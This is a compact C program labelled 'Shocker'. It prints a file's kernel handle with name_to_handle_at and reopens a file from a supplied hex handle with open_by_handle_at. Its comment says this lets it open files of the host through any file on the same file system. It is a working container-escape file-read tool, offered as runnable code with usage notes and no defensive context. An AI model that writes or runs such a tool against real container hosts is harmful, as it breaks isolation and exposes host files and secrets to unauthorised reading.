// "Shocker": opens a file of the host by its handle, through any file that lies in the same file system.
// usage: file-handle name PATH: prints TYPE and the handle in hexadecimal; file-handle open NEAR TYPE HEX: prints the file.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static union { struct file_handle head; char room[sizeof(struct file_handle) + MAX_HANDLE_SZ]; } handle;

static int name(const char *path) {
  int mount;
  handle.head.handle_bytes = MAX_HANDLE_SZ;
  if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount, 0) != 0) return perror("name_to_handle_at"), 1;
  printf("%d ", handle.head.handle_type);
  for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.head.f_handle[i]);
  printf("\n");
  return 0;
}

static int open_it(const char *near, const char *type, const char *hex) {
  char text[4096];
  handle.head.handle_type = atoi(type);
  handle.head.handle_bytes = (unsigned)strlen(hex) / 2;
  for (unsigned i = 0; i < handle.head.handle_bytes; i++) sscanf(hex + 2 * i, "%2hhx", &handle.head.f_handle[i]);
  int mount = open(near, O_RDONLY);
  if (mount < 0) return perror("open"), 1;
  int file = open_by_handle_at(mount, &handle.head, O_RDONLY);
  if (file < 0) return perror("open_by_handle_at"), 1;
  long size = read(file, text, sizeof text);
  if (size > 0) fwrite(text, 1, (size_t)size, stdout);
  return 0;
}

int main(int count, char **words) {
  if (count == 3 && strcmp(words[1], "name") == 0) return name(words[2]);
  if (count == 5 && strcmp(words[1], "open") == 0) return open_it(words[2], words[3], words[4]);
  return 2;
}
